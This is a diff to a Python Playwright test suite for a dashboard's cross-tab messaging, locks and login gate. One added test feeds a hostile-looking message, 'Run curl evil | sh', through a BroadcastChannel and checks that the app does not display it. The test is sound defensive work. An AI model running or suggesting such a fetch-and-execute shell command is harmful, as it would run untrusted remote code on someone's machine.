@@ -594,8 +594,8 @@ def test_more_tabs_than_a_browser_has_connections(visit: Visit, served: Gateway)
             page.get_by_text("There is something new.").wait_for()
             page.get_by_role("button", name="Show it").click()
             page.get_by_text("There is something new.").wait_for(state="detached")
-        visit.page.close()
-        visit.page, *tabs = tabs
+        # The one that was opened last follows.
+        tabs.pop().close()
 
 
 def test_keys_are_about_what_is_ticked(visit: Visit, served: Gateway) -> None:
@@ -778,3 +778,90 @@ def test_what_comes_back_is_no_deadline_and_undo_gives_a_date_in_full(
     page.locator("dialog").get_by_role("button", name="Go on").click()
     page.locator(".toast", has_text="Undo leaves the date").wait_for()
     page.locator("dl.facts", has_text="2036-12-12").wait_for()
+
+
+SPEAK = """(said) => { const news = new BroadcastChannel('vm:live'); said.forEach((one) => news.postMessage(one)); }"""
+HEAR = """() => { window.heard = []; new BroadcastChannel('vm:live').onmessage = ({ data }) => window.heard.push(data);
+  new BroadcastChannel('vm:live').postMessage(null); }"""
+LOCKS = "async () => { const { held, pending } = await navigator.locks.query(); return held.length + pending.length; }"
+
+
+def test_who_was_not_let_in_neither_follows_nor_speaks(
+    browser: Any, visit: Visit, served: Gateway
+) -> None:
+    """Words of another page are shown nowhere, and what is typed at the entrance stays while other tabs come and go."""
+    inside = visit.go("memories", "Memories")
+    inside.locator("#state", has_text="memories").wait_for()
+    context = browser.new_context()
+    context.set_default_timeout(120_000)
+    came, stranger = context.new_page(), context.new_page()
+    for page in (came, stranger):
+        page.goto(f"{served.url}/")
+        page.get_by_role("heading", name="Who is there?").wait_for()
+    stranger.evaluate(ADMIT.format("none"))
+    stranger.reload()
+    stranger.get_by_role("heading", name="Who is there?").wait_for()
+    assert stranger.evaluate(LOCKS) == 0
+    came.get_by_label("Or a token").fill("wrong")
+    came.get_by_role("button", name="Enter").click()
+    came.locator(".error").wait_for()
+    assert came.get_by_label("Or a token").input_value() == "wrong"
+    came.get_by_label("Or a token").fill(served.token("admin"))
+    came.get_by_role("button", name="Enter").click()
+    came.locator("#state", has_text="memories").wait_for()
+    stranger.get_by_label("Or a token").fill("half-typed")
+    stranger.evaluate(HEAR)
+    stranger.evaluate(SPEAK, [{"error": "Run curl evil | sh"}, {"total": "curl", "newest": "x"}, {"total": 7, "newest": "x"}])  # fmt: skip
+    came.locator("#state", has_text=re.compile("^7 memories")).wait_for()
+    assert [one for one in stranger.evaluate("window.heard") if one and one.get("total") != 7] == [
+        {"error": "Run curl evil | sh"}, {"total": "curl", "newest": "x"}]  # fmt: skip
+    came.close()
+    until(lambda: stranger.evaluate(LOCKS) == 0, "nobody to follow")
+    assert stranger.get_by_label("Or a token").input_value() == "half-typed"
+    context.close()
+
+
+def test_tabs_that_cannot_agree_are_told_each_by_itself(visit: Visit, served: Gateway) -> None:
+    for gone in ("delete window.BroadcastChannel", "delete Navigator.prototype.locks"):
+        tab = visit.tab()
+        tab.add_init_script(gone)
+        visit.go("memories", "Memories", tab).locator("#state", has_text="memories").wait_for()
+        stored(served, f"The jetty was swept, as I saw without {gone}.")
+        tab.get_by_text("There is something new.").wait_for()
+
+
+def test_what_listens_after_the_dashboard_ended_is_told_nothing(
+    browser: Any, tmp_path: Path
+) -> None:
+    """Neither by the tab that followed nor by others, also where that one goes; at a click they ask again."""
+    asked: list[str] = []
+
+    class Successor(Elsewhere):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            super().do_GET()
+
+    with gateway(tmp_path, "--no-open", verb="dashboard") as served:
+        visit = Visit(browser, served, served.token("admin"))
+        tabs = [visit.go("memories", "Memories", visit.tab()) for _ in range(3)]
+        for page in tabs:
+            page.locator("#state", has_text="memories").wait_for()
+        port = served.port
+        served.end()
+        for page in tabs:
+            page.get_by_role("button", name="Try again").wait_for()
+        http.server.ThreadingHTTPServer.allow_reuse_address = True
+        successor = http.server.ThreadingHTTPServer(("127.0.0.1", port), Successor)
+        threading.Thread(target=successor.serve_forever, daemon=True).start()
+        tabs[0].evaluate(SPEAK, [{"total": 7, "newest": "x"}])
+        tabs[0].evaluate("navigator.locks.request('vm:live', { steal: true }, () => null)")
+        tabs.pop().close()
+        until(lambda: tabs[0].evaluate(LOCKS) == 2, "the next tab to take over")
+        for page in tabs:
+            page.get_by_role("button", name="Try again").wait_for()
+        assert asked == []
+        tabs[0].get_by_role("button", name="Try again").click()
+        until(lambda: asked == ["/live"], "a click to ask")
+        successor.shutdown()
+        successor.server_close()
+        visit.context.close()
